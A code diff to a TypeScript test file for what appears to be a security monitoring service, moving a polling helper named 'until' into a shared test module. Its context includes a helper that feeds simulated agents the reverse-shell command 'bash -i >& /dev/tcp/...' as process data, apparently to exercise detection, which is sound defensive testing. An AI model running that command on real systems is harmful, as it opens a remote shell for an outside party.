@@ -9,6 +9,7 @@ import { after, before, test } from 'node:test'
 import { createServer as createTlsServer } from 'node:tls'
 import { type ChannelBody, channelBody } from '@rampart/api'
 import { SMTPServer } from 'smtp-server'
+import { until } from '../../../../test/until.ts'
 import { Authority, type KeyPair } from '../ingest/authority.ts'
 import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
 import { TestConsole } from '../testing/test-console.ts'
@@ -47,16 +48,6 @@ async function raise(...commands: string[]): Promise<void> {
     batch,
     commands.map((command, index) => agent.started(batch * 100 + index, `bash -i >& /dev/tcp/${command}`)),
   )
-}
-
-async function until<T>(what: string, look: () => T | undefined | false, waitMs = 15_000): Promise<T> {
-  const end = Date.now() + waitMs
-  for (;;) {
-    const found = look()
-    if (found) return found
-    if (Date.now() > end) throw new Error(`${what} did not happen`)
-    await new Promise((resolve) => setTimeout(resolve, 20))
-  }
 }
 
 async function add(body: Record<string, unknown>): Promise<string> {
